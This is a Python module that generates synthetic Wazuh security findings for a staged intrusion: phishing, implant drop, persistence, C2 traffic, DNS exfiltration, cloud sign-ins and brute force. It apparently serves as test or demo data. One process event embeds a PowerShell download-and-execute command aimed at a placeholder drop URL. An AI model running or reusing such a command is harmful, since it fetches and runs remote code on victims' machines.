"""Findings of Wazuh 5.x, as hits of a search: the same intrusion in the common schema of that version."""

from base import *
from stix import internal

dice = Dice("findings")
RULES = {
    "c2": ("Connection to command and control server", "high", "T1071", "Application Layer Protocol", "Command and Control"),
    "dns": ("DNS query for suspicious domain", "medium", "T1071.004", "DNS", "Command and Control"),
    "exec": ("Encoded PowerShell started by Office", "critical", "T1059.001", "PowerShell", "Execution"),
    "file": ("Executable dropped in user profile", "high", "T1105", "Ingress Tool Transfer", "Command and Control"),
    "run": ("Run key added", "medium", "T1547.001", "Registry Run Keys / Startup Folder", "Persistence"),
    "ssh": ("SSH login failed", "low", "T1110", "Brute Force", "Credential Access"),
    "web": ("Web scanner", "low", "T1595.002", "Vulnerability Scanning", "Reconnaissance"),
    "mail": ("Mail with macro document", "medium", "T1566.001", "Spearphishing Attachment", "Initial Access"),
    "cloud": ("Sign-in from unusual address", "medium", "T1078.004", "Cloud Accounts", "Initial Access"),
    "logon": ("Remote logon", "informational", "T1021.002", "SMB/Windows Admin Shares", "Lateral Movement"),
}


def finding(when, agent, category, rule, **fields):
    title, level, technique, technique_name, tactic = RULES[rule]
    name, address, computer = AGENTS[agent]
    number = internal(f"finding {when} {agent} {rule}")
    time = moment(when).strftime("%Y-%m-%dT%H:%M:%S.") + millis(moment(when)) + "Z"
    source = {"@timestamp": time, "event": {"created": time, "kind": "event", "doc_id": internal("event" + number),
                                            **fields.pop("event", {})}, **fields}
    source["wazuh"] = {
        "agent": {"id": internal("agent" + agent), "name": name, "version": "5.0.0", "groups": ["default"],
                  "host": {"hostname": (computer or name).split(".")[0].lower(), "ip": [address] if address else [],
                           "os": {"name": "Microsoft Windows 11 Pro" if computer else "Debian GNU/Linux",
                                  "platform": "windows" if computer else "debian"}}},
        "cluster": {"name": "wazuh", "node": "node01"}, "event": {"id": internal("event" + number)},
        "integration": {"name": fields.get("event", {}).get("module", category), "category": category},
        "protocol": {"location": "windows-eventchannel" if computer else "/var/log/syslog"},
        "rule": {"id": internal("rule" + rule), "title": title, "level": level, "status": "stable", "tags": [f"attack.{technique.lower()}"],
                 "mitre": {"technique": {"id": [technique], "name": [technique_name]}, "tactic": {"name": [tactic]}}}}
    if not address:
        del source["wazuh"]["agent"]["host"]["ip"]
    return {"_index": f".ds-wazuh-findings-v5-{category}-000001", "_id": number, "_score": None, "_source": source}


def hashed(of):
    return {name: of[name] for name in ("md5", "sha1", "sha256")}


def c2(when, agent, user="SYSTEM", server=C2_IP, image=IMPLANT_SERVER_PATH):
    client = AGENTS[agent][1]
    return finding(when, agent, "network-activity", "c2", event={"module": "sysmon", "code": "3", "action": "network-connection"},
                   source={"ip": client, "port": dice.between(49200, 65000)},
                   destination={"ip": server, "port": 443, "domain": C2_HOST}, network={"transport": "tcp", "type": "ipv4"},
                   process={"executable": image, "name": IMPLANT, "pid": dice.between(500, 9000)},
                   user={"name": user, "domain": DOMAIN}, related={"ip": [client, server], "hosts": [C2_HOST]})


def dns(when, agent, name, kind="A", answer=None):
    extra = {"resolved_ip": [answer], "answers": [{"data": answer, "name": name, "type": kind}]} if answer else {}
    return finding(when, agent, "network-activity", "dns", event={"module": "suricata", "action": "dns-query"},
                   source={"ip": "10.20.0.20", "port": dice.between(40000, 60000)}, destination={"ip": "10.20.0.10", "port": 53},
                   network={"transport": "udp", "protocol": "dns"}, dns={
                       "question": {"name": name, "type": kind, "registered_domain": ".".join(name.split(".")[-2:])}, **extra},
                   related={"hosts": [name]})


def findings():
    victim = "004"
    keller = {"name": "m.keller", "domain": DOMAIN}
    word = {"executable": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "name": "WINWORD.EXE", "pid": 6120,
            "command_line": f'WINWORD.EXE /n "C:\\Users\\m.keller\\Downloads\\{LURE}"'}
    result = [
        finding("16 08:41:00.120", "007", "applications", "mail", event={"module": "postfix", "action": "mail-accepted"},
                source={"ip": PHISH_IP, "domain": PHISH_HOST}, email={
                    "from": {"address": [PHISH_FROM]}, "to": {"address": [f"m.keller@{MAIL}"]},
                    "subject": "Rechnung 2026-0311 – letzte Mahnung",
                    "attachments": [{"file": {"name": LURE, "extension": "docm", "hash": hashed(LURE_HASH)}}]},
                related={"ip": [PHISH_IP]}),
        finding("16 08:52:11.018", victim, "system-activity", "exec", event={"module": "sysmon", "code": "1", "action": "process-start"},
                process={"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "name": "powershell.exe",
                         "pid": 6544, "command_line": f"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{DROP_URL}')\"",
                         "parent": word}, user=keller),
        finding("16 08:52:14.870", "011", "network-activity", "c2", event={"module": "squid", "action": "proxy"},
                source={"ip": "10.20.4.57"}, destination={"ip": DROP_IP, "port": 80, "domain": DROP_HOST},
                url={"full": PAYLOAD_URL, "domain": DROP_HOST, "path": "/assets/nimbus.bin", "scheme": "http"},
                user_agent={"original": USER_AGENT}, http={"request": {"method": "GET"}, "response": {"status_code": 200}},
                related={"ip": ["10.20.4.57", DROP_IP], "hosts": [DROP_HOST]}),
        finding("16 08:52:15.450", victim, "system-activity", "file", event={"module": "fim", "action": "added"}, file={
            "path": IMPLANT_PATH, "name": IMPLANT, "directory": IMPLANT_DIR, "extension": "exe", "size": 20480,
            "hash": hashed(IMPLANT_HASH)}, user=keller, related={"hash": [IMPLANT_HASH["sha256"]]}),
        finding("16 08:52:18.230", victim, "system-activity", "exec", event={"module": "sysmon", "code": "1", "action": "process-start"},
                process={"executable": IMPLANT_PATH, "name": IMPLANT, "pid": 7004, "command_line": f'"{IMPLANT_PATH}" --sync',
                         "hash": hashed(IMPLANT_HASH)}, user=keller),
        finding("16 08:52:20.410", victim, "system-activity", "run", event={"module": "sysmon", "code": "13", "action": "registry-set"},
                registry={"hive": "HKCU", "key": RUN_KEY, "path": f"HKCU\\{RUN_KEY}\\{RUN_VALUE}", "value": RUN_VALUE,
                          "data": {"strings": [f'"{IMPLANT_PATH}" --sync'], "type": "REG_SZ"}},
                process={"executable": "C:\\Windows\\System32\\reg.exe", "name": "reg.exe", "pid": 7100}, user=keller),
        c2("16 08:53:02.281", victim, "m.keller", image=IMPLANT_PATH), c2("16 12:10:40.730", victim, "m.keller", image=IMPLANT_PATH),
        c2("17 20:40:00.333", victim, "m.keller", C2_IP6, IMPLANT_PATH), c2("17 10:01:09.700", "003"), c2("17 10:14:09.700", "009"),
        dns("16 08:52:12.300", "008", DROP_HOST, answer=DROP_IP), dns("16 08:53:01.950", "008", C2_HOST, answer=C2_IP),
        dns("18 01:19:58.610", "008", EXFIL_NS, answer=PHISH_IP),
        *[dns(f"18 01:{20 + n}:{10 + n * 3}.{n}55", "008", exfil_name(n), "TXT") for n in (1, 3, 5, 7)],
        finding("16 08:53:02.500", "008", "network-activity", "c2", event={"module": "suricata", "action": "tls"},
                source={"ip": "10.20.4.57", "port": 51234}, destination={"ip": C2_IP, "port": 443},
                tls={"client": {"ja3": JA3, "server_name": C2_HOST}, "server": {"ja3s": JA3S, "hash": {"sha1": CERT_SHA1.upper()}}},
                network={"transport": "tcp", "protocol": "tls"}),
        finding("17 03:11:20.010", "000", "cloud-services", "cloud", event={"module": "office365", "action": "UserLoggedIn", "outcome": "success"},
                source={"ip": C2_IP, "port": 51000}, user={"name": f"m.keller@{MAIL}", "email": f"m.keller@{MAIL}"},
                user_agent={"original": USER_AGENT}, cloud={"provider": "azure"}, related={"ip": [C2_IP]}),
        finding("17 03:33:47.340", "000", "cloud-services", "cloud", event={"module": "aws", "action": "ListUsers", "outcome": "success"},
                source={"ip": C2_IP}, user={"name": "m.keller"}, user_agent={"original": USER_AGENT},
                cloud={"provider": "aws", "account": {"id": "123456789012"}, "region": "eu-central-1"}),
        finding("17 10:01:02.114", "003", "access-management", "logon", event={"module": "windows", "code": "4624", "outcome": "success"},
                source={"ip": "10.20.4.57", "port": 51902}, user={"name": "adm.novak", "domain": DOMAIN}),
        finding("17 10:14:03.950", "009", "system-activity", "file", event={"module": "fim", "action": "added"}, file={
            "path": IMPLANT_SERVER_PATH, "name": IMPLANT, "directory": "C:\\ProgramData\\Nimbus", "extension": "exe", "size": 20480,
            "hash": hashed(IMPLANT_HASH)}, related={"hash": [IMPLANT_HASH["sha256"]]}),
        finding("15 19:30:17.090", "001", "system-activity", "file", event={"module": "fim", "action": "added"}, file={
            "path": MINER_PATH, "name": ".kworkerd", "directory": "/dev/shm", "size": 1048576, "hash": hashed(MINER_HASH)}),
        finding("14 11:00:21.040", "001", "applications", "web", event={"module": "nginx", "outcome": "failure"},
                source={"ip": SCAN_IPS[0]}, url={"original": "/.env", "path": "/.env"}, user_agent={"original": SCAN_AGENT},
                http={"request": {"method": "GET"}, "response": {"status_code": 404}}),
    ]
    result.append(finding("15 19:31:44.123", "001", "applications", "web", event={"module": "nginx", "outcome": "failure"},
                          source={"ip": SCAN_IP6}, url={"original": "/uploads/.cache.php", "path": "/uploads/.cache.php"},
                          user_agent={"original": USER_AGENT}, http={"request": {"method": "GET"}, "response": {"status_code": 403}}))
    for number, address in enumerate([BRUTE_IP, BRUTE_IP, BRUTE_IP, "192.0.2.201"]):
        result.append(finding(f"14 02:1{number}:00.021", "001", "access-management", "ssh", event={
            "module": "sshd", "action": "ssh_login", "outcome": "failure"}, source={"ip": address, "port": 41000 + number},
            user={"name": "admin"}, related={"ip": [address]}))
    return sorted(result, key=lambda hit: hit["_source"]["@timestamp"])
